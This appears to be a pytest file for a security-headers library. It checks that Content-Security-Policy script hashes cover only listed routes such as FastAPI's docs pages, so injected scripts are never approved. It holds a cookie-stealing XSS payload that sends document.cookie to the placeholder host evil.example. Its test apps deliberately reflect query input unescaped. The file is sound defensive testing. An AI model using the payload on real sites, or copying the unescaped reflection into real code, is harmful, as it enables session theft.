"""Inline-script hashes only on the routes READYKIT_CSP_HASH_ROUTES lists (FastAPI's docs pages by
default): elsewhere the HTML policy goes out as configured, so a script an attacker gets into a
page (reflected or stored XSS) is never approved by its own hash."""

from __future__ import annotations

import base64
import hashlib
import json
from html.parser import HTMLParser
from typing import Any

import pytest
from fastapi import FastAPI
from fastapi.responses import HTMLResponse as FastAPIHTMLResponse
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse
from starlette.routing import Route

from readykit import ReadyKit, Settings
from readykit.errors import ConfigurationError
from readykit.guards.config import SecurityHeadersConfig
from readykit.testing import asgi_request

pytestmark = pytest.mark.anyio

HTML_CSP = SecurityHeadersConfig().html_content_security_policy
PAYLOAD = "fetch('//evil.example/?c='.concat(document.cookie))"
DOCS_PAGES = ["/docs", "/redoc", "/docs/oauth2-redirect"]


def sha256_source(script: str) -> str:
    """The CSP source a browser would match this inline script's text against."""
    return "'sha256-" + base64.b64encode(hashlib.sha256(script.encode()).digest()).decode() + "'"


class _InlineScripts(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.scripts: list[str] = []
        self._inline = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "script":
            self._inline = not any(name == "src" for name, _ in attrs)
            if self._inline:
                self.scripts.append("")

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._inline = False

    def handle_data(self, data: str) -> None:
        if self._inline:
            self.scripts[-1] += data


def inline_scripts(html: bytes) -> list[str]:
    parser = _InlineScripts()
    parser.feed(html.decode())
    return parser.scripts


def settings(**values: Any) -> Settings:
    return Settings(configure_logging=False, access_log=False, records=False, **values)


async def search(request: Request) -> HTMLResponse:
    q = request.query_params.get("q", "")  # a reflected-XSS bug in the app
    return HTMLResponse(f"<html><body>Results for {q}</body></html>")


async def page(request: Request) -> HTMLResponse:
    return HTMLResponse("<p id=s>waiting</p><script>s.textContent = 'ran'</script>")


def starlette_app(**values: Any) -> Any:
    routes = [Route("/search", search), Route("/page", page)]
    return ReadyKit(settings(**values)).wrap(Starlette(routes=routes))


def fastapi_app(**values: Any) -> Any:
    api = FastAPI(title="shop")

    @api.get("/items/{item_id}")
    async def item(item_id: int) -> dict[str, int]:
        return {"id": item_id}

    @api.get("/echo", response_class=FastAPIHTMLResponse)
    async def echo(q: str = "") -> str:
        return f"<p>{q}</p>"  # a reflected-XSS bug in the app

    return ReadyKit(settings(**values)).wrap(api)


async def test_a_script_injected_into_an_unlisted_page_is_not_approved() -> None:
    query = f"q=<script>{PAYLOAD}</script>".encode()
    r = await asgi_request(starlette_app(), "GET", "/search", query_string=query)
    assert f"<script>{PAYLOAD}</script>".encode() in r.body  # the app did reflect it
    csp = r.header("content-security-policy") or ""
    assert sha256_source(PAYLOAD) not in csp
    assert csp == HTML_CSP  # the policy as configured: inline scripts are refused


async def test_a_page_of_the_app_itself_is_not_hashed_unless_listed() -> None:
    unlisted = await asgi_request(starlette_app(), "GET", "/page")
    assert unlisted.header("content-security-policy") == HTML_CSP
    listed = await asgi_request(starlette_app(csp_hash_routes=["GET /page"]), "GET", "/page")
    assert sha256_source("s.textContent = 'ran'") in (
        listed.header("content-security-policy") or ""
    )


async def test_fastapi_injection_on_an_api_route_is_not_approved_by_default() -> None:
    query = f"q=<script>{PAYLOAD}</script>".encode()
    r = await asgi_request(fastapi_app(), "GET", "/echo", query_string=query)
    assert r.status == 200
    assert sha256_source(PAYLOAD) not in (r.header("content-security-policy") or "")


@pytest.mark.parametrize("path", DOCS_PAGES)
async def test_fastapi_docs_pages_get_every_inline_script_hashed_by_default(path: str) -> None:
    r = await asgi_request(fastapi_app(), "GET", path)
    assert r.status == 200
    scripts = inline_scripts(r.body)
    # Swagger UI's bootstrap and the OAuth2 redirect's own script (FastAPI's ReDoc has none)
    assert scripts or path == "/redoc"
    csp = r.header("content-security-policy") or ""
    for script in scripts:
        assert sha256_source(script) in csp.split("script-src", 1)[1].split(";", 1)[0]
    assert "'unsafe-inline'" not in csp.split("style-src")[0]


async def test_fastapi_docs_query_does_not_reach_the_page() -> None:
    """The default routes are pages FastAPI builds from its own configuration: a query string
    (the attacker's only input) changes nothing in them."""
    app = fastapi_app()
    plain = await asgi_request(app, "GET", "/docs")
    query = f"q=<script>{PAYLOAD}</script>".encode()
    probed = await asgi_request(app, "GET", "/docs", query_string=query)
    assert probed.body == plain.body
    assert probed.header("content-security-policy") == plain.header("content-security-policy")


async def test_an_empty_list_turns_hashing_off() -> None:
    app = fastapi_app(csp_hash_routes=[])
    for path in DOCS_PAGES:
        r = await asgi_request(app, "GET", path)
        assert r.header("content-security-policy") == HTML_CSP


async def test_an_override_on_a_listed_route_still_wins() -> None:
    overrides = {"GET /docs": {"Content-Security-Policy": "default-src 'self'"}}
    r = await asgi_request(fastapi_app(security_header_overrides=overrides), "GET", "/docs")
    assert r.header("content-security-policy") == "default-src 'self'"


def test_the_default_lists_fastapis_documentation_pages() -> None:
    assert SecurityHeadersConfig().csp_hash_routes == [
        "GET /docs",
        "GET /redoc",
        "GET /docs/oauth2-redirect",
    ]


@pytest.mark.parametrize(
    ("routes", "line"),
    [
        (["docs"], "READYKIT_CSP_HASH_ROUTES: key 'docs' is not a route"),
        (["default"], "READYKIT_CSP_HASH_ROUTES: key 'default' is not a route"),
        (["GET /p/{id:hex}"], "READYKIT_CSP_HASH_ROUTES: key 'GET /p/{id:hex}' uses unknown"),
    ],
)
def test_a_malformed_route_is_one_line_naming_the_variable(
    monkeypatch: pytest.MonkeyPatch, routes: list[str], line: str
) -> None:
    with pytest.raises(ConfigurationError) as from_code:
        Settings(csp_hash_routes=routes)
    assert str(from_code.value).startswith(line)
    assert "\n" not in str(from_code.value)
    monkeypatch.setenv("READYKIT_CSP_HASH_ROUTES", json.dumps(routes))
    with pytest.raises(ConfigurationError) as from_env:
        Settings()
    assert str(from_env.value) == str(from_code.value)
